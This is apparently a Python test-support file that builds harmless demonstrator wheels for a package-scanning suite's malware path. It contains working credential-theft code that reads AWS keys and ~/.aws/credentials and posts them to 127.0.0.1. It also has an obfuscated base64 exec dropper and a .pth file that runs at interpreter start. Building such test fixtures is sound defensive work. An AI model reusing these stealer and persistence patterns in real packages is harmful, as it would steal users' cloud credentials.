"""Harmless demonstrator packages for the malware path: built, uploaded, never run.

They "exfiltrate" to 127.0.0.1 port 9 (discard) and are never installed or imported by the
suite: pip only downloads them, and only after an admin clears them.
"""

from __future__ import annotations

import base64
from pathlib import Path

from tests.support.dists import make_wheel

# Install/import-time credential theft: reads cloud keys and ~/.aws/credentials, posts them.
STEALER = b"""import os, urllib.request
_k = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
_k += open(os.path.expanduser("~/.aws/credentials")).read()
urllib.request.urlopen("http://127.0.0.1:9/collect", data=_k.encode())
"""

# Encoded payload fed to exec at import time.
DROPPER = b"import base64\nexec(base64.b64decode(%r))\n" % base64.b64encode(STEALER)

# A .pth line that runs code at every interpreter start.
PTH = b"import os; exec(__import__('base64').b64decode(%r))\n" % base64.b64encode(STEALER)


def malicious_wheel(directory: Path, name: str, version: str) -> Path:
    """A wheel whose ``__init__`` and ``.pth`` exfiltrate credentials at import/start."""
    module = name.replace("-", "_")
    return make_wheel(
        directory,
        name,
        version,
        extra_files={
            f"{module}/__init__.py": DROPPER,
            f"{module}_init.pth": PTH,
        },
    )
